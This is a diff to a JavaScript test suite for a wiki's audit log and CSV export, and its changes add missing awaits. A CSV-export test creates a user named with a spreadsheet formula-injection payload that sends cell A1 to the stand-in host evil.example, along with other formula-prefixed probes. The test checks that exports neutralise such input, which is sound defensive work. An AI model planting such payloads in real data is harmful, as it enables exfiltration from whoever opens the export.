@@ -202,7 +202,7 @@ describe("what is recorded", () => {
     // …and leave it with them.
     expect((await auditLog("action=token")).events.map((e) => e.target?.id)).not.toContain(leaversToken.id);
     // Put the viewer back for the authorization tests below.
-    changeMemberRole(wiki.id, viewer.id, "viewer", owner.id);
+    await changeMemberRole(wiki.id, viewer.id, "viewer", owner.id);
   });
 
   it("records page creation, rename, move, trash and restore by whoever did them", async () => {
@@ -434,7 +434,7 @@ describe("CSV export", () => {
     // A member whose name a spreadsheet would run, doing something that lands in the log.
     const prankster = await makeUser('=HYPERLINK("http://evil.example/?"&A1,"Details")');
     await clockTick();
-    addMember(wiki.id, prankster.email, "editor", owner.id);
+    await addMember(wiki.id, prankster.email, "editor", owner.id);
     await createApiToken(prankster.id, "@SUM(1+1)");
     expect(
       (await api("POST", `/wikis/${wiki.id}/pages`, { token: prankster.token, body: { title: '+1, "quoted"\nand a new line' } })).status,
